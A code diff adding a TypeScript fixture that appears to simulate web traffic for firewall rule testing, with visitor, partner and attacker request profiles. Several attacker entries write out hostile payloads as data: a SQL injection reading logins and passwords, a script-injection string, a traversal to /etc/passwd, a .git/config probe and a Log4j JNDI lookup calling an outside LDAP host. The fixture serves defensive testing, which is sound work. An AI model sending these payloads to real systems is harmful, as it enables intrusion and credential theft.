@@ -1,0 +1,230 @@
+import {owaspParts} from '../rulesets/owasp-table.ts';
+import {ruleId, stableId} from '../waf/catalogue.ts';
+
+/** Where requests come from. Addresses and networks are those that documents use. */
+export type Client = {
+	readonly ip: string;
+	readonly country: string;
+	readonly asn: number;
+	readonly network: string;
+	readonly agent: string;
+};
+
+/** Which managed rules a request trips, by their ids. */
+export type Trips = {
+	/** Rules with an action of their own; the previous and the new version have them under the same ids. */
+	readonly rules?: readonly string[];
+	/** Rules of the previous OWASP package; each is worth 20 points. */
+	readonly previousScores?: readonly string[];
+	/** Rules of the new OWASP ruleset; each is worth 5 points. */
+	readonly scores?: readonly string[];
+};
+
+/** A kind of request. */
+export type Kind = {
+	/** How many of all the requests are of this kind. */
+	readonly share: number;
+	/** How many there are in a busy minute, at least one in any. */
+	readonly always?: number;
+	readonly from: keyof typeof clients;
+	readonly method?: string;
+	/** The name before that of the zone. */
+	readonly at?: string;
+	/** An asterisk is a word, another one for each client. */
+	readonly path: string;
+	readonly query?: string;
+	readonly agent?: string;
+	/** The path of the page that it comes from. */
+	readonly referer?: string;
+	/** Not encrypted. */
+	readonly isPlain?: true;
+	readonly trips?: Trips;
+};
+
+export const words = ['lamp', 'kettle', 'tent', 'guitar', 'desk', 'rucksack', 'novel', 'spade'] as const;
+
+const firefox = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
+const chrome =
+	'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
+const phone =
+	'Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1';
+
+function client(ip: string, country: string, asn: number, agent: string): Client {
+	return {ip, country, asn, network: `EXAMPLE-NET-${asn - 64_495}`, agent};
+}
+
+export const clients = {
+	visitors: [
+		client('192.0.2.11', 'DE', 64_496, chrome),
+		client('192.0.2.38', 'DE', 64_496, phone),
+		client('192.0.2.75', 'FR', 64_497, firefox),
+		client('192.0.2.102', 'GB', 64_498, chrome),
+		client('192.0.2.144', 'NL', 64_499, phone),
+		client('192.0.2.171', 'US', 64_500, chrome),
+		client('192.0.2.203', 'US', 64_500, phone),
+		client('192.0.2.230', 'PL', 64_501, firefox),
+		client('2001:db8:1::51', 'DE', 64_496, chrome),
+		client('2001:db8:2::9c', 'SE', 64_502, firefox),
+		client('2001:db8:3::17', 'ES', 64_503, phone),
+		client('2001:db8:4::e2', 'TR', 64_504, chrome),
+	],
+	office: [
+		client('203.0.113.20', 'DE', 64_505, firefox),
+		client('203.0.113.21', 'DE', 64_505, chrome),
+		client('2001:db8:40::7', 'DE', 64_505, chrome),
+	],
+	editors: [
+		client('192.0.2.52', 'DE', 64_496, chrome),
+		client('192.0.2.118', 'NL', 64_499, firefox),
+		client('2001:db8:5::31', 'GB', 64_498, chrome),
+	],
+	partners: [
+		client('198.51.100.70', 'AT', 64_506, 'acme-partner/2.4'),
+		client('198.51.100.81', 'CH', 64_507, 'Java/1.8.0_292'),
+	],
+	monitors: [client('198.51.100.7', 'IE', 64_508, 'acme-monitor/1.9')],
+	crawlers: [
+		client('198.51.100.130', 'US', 64_509, 'Mozilla/5.0 (compatible; ExampleBot/2.1)'),
+		client('198.51.100.131', 'US', 64_509, 'BadBot/1.0'),
+		client('198.51.100.132', 'SG', 64_510, 'Python scrapy/2.11'),
+	],
+	attackers: [
+		client('198.51.100.201', 'SG', 64_510, 'sqlmap/1.8.2#stable'),
+		client('198.51.100.214', 'BR', 64_511, 'Mozilla/5.00 (Nikto/2.5.0)'),
+		client('198.51.100.222', 'US', 64_500, 'Go-http-client/1.1'),
+		client('2001:db8:bad::66', 'VN', 64_510, 'curl/8.9.1'),
+		client('198.51.100.239', 'AQ', 64_511, ''),
+	],
+} satisfies Readonly<Record<string, readonly Client[]>>;
+
+/** The first rules of a part of the new OWASP ruleset. */
+function scoring(kind: string, count: number): readonly string[] {
+	const part = owaspParts.find(one => one.kind === kind);
+	return (part?.rules ?? []).slice(0, count).map((_, index) => {
+		return stableId(`owasp rule ${(part?.first ?? 0) + index * 10}`);
+	});
+}
+
+const sqlInjection: Trips = {
+	rules: [ruleId('Platform Specials', 2)],
+	previousScores: ['981231', '981232', '981301'],
+	scores: scoring('sqli', 24),
+};
+const log4j = stableId('managed rule Apache Log4j Remote Code Execution (Header)');
+
+/**
+ * What looks like an attack and is not: the templates of an import hold `${…}`, which a rule takes for a look-up of
+ * Log4j. Only the new managed rules have this rule.
+ */
+const falsePositive = {
+	path: '/api/import',
+	rule: stableId('managed rule Apache Log4j Remote Code Execution (Body)'),
+} as const;
+
+/** All kinds of requests. The first one is what a burst repeats. */
+export const kinds: readonly Kind[] = [
+	{
+		share: 3,
+		from: 'attackers',
+		path: '/products',
+		query: 'id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--',
+		trips: sqlInjection,
+	},
+	{share: 40, from: 'visitors', path: '/'},
+	{share: 60, from: 'visitors', path: '/products/*', referer: '/'},
+	{share: 24, from: 'visitors', path: '/search', query: 'q=garden'},
+	{share: 18, from: 'visitors', path: '/cart', referer: '/products'},
+	{share: 8, from: 'visitors', method: 'POST', path: '/login', referer: '/login'},
+	{share: 6, from: 'visitors', method: 'POST', path: '/checkout', referer: '/cart'},
+	{share: 10, from: 'visitors', path: '/account/orders', referer: '/account'},
+	{share: 1, from: 'visitors', path: '/account', isPlain: true},
+	{share: 20, from: 'visitors', path: '/api/v2/stock/*', at: 'api'},
+	{share: 4, from: 'visitors', path: '/old/*', query: 'utm_source=winter'},
+	{share: 8, from: 'office', path: '/admin/orders'},
+	{share: 3, from: 'office', path: '/internal/reports'},
+	{share: 3, from: 'office', method: 'POST', path: '/upload/photos'},
+	{share: 6, from: 'monitors', path: '/health'},
+	{share: 8, from: 'crawlers', path: '/products/*'},
+	{share: 4, from: 'partners', path: '/feed/prices.xml'},
+	{
+		share: 0,
+		always: 3,
+		from: 'editors',
+		method: 'POST',
+		path: falsePositive.path,
+		referer: '/admin/import',
+		trips: {rules: [falsePositive.rule], scores: scoring('rce', 2)},
+	},
+	{
+		share: 0,
+		always: 1,
+		from: 'partners',
+		method: 'POST',
+		path: '/partner/orders',
+		trips: {previousScores: ['960008', '960911', '960912']},
+	},
+	{share: 1, from: 'partners', method: 'DELETE', at: 'api', path: '/api/v1/orders/*'},
+	{share: 1, from: 'partners', path: '/api/v1/export/2026001'},
+	{
+		share: 2,
+		from: 'attackers',
+		path: '/search',
+		query: 'q=%3Cscript%3Ealert(1)%3C/script%3E',
+		trips: {
+			rules: [ruleId('Platform Specials', 7)],
+			previousScores: ['973400', '973301', '973402'],
+			scores: scoring('xss', 14),
+		},
+	},
+	{
+		share: 2,
+		from: 'attackers',
+		path: '/download',
+		query: 'file=../../../../etc/passwd',
+		trips: {rules: [ruleId('Platform Specials', 32)], scores: scoring('lfi', 5)},
+	},
+	{
+		share: 2,
+		from: 'attackers',
+		path: '/wp-admin/admin-ajax.php',
+		method: 'POST',
+		trips: {rules: [ruleId('Platform WordPress', 34)]},
+	},
+	{
+		share: 1,
+		from: 'attackers',
+		path: '/wp-content/plugins/upload.php',
+		method: 'POST',
+		trips: {rules: [ruleId('Platform WordPress', 3)]},
+	},
+	{share: 1, from: 'attackers', path: '/wp-login.php', method: 'POST'},
+	{share: 1, from: 'attackers', path: '/xmlrpc.php', method: 'POST'},
+	{
+		share: 1,
+		from: 'attackers',
+		path: '/index.php',
+		query: 'GLOBALS[x]=1',
+		trips: {rules: [ruleId('Platform PHP', 2)]},
+	},
+	{
+		share: 1,
+		from: 'attackers',
+		path: '/user/register',
+		method: 'POST',
+		trips: {rules: [ruleId('Platform Drupal', 10)]},
+	},
+	{
+		share: 2,
+		from: 'attackers',
+		path: '/.git/config',
+		trips: {rules: [ruleId('Requested Bots', 2)], previousScores: ['990002', '990003', '990004']},
+	},
+	{
+		share: 2,
+		from: 'attackers',
+		path: '/',
+		agent: '$\u007bjndi:ldap://198.51.100.222/a}',
+		trips: {rules: [log4j]},
+	},
+	{share: 1, from: 'attackers', path: '/admin'},
+];
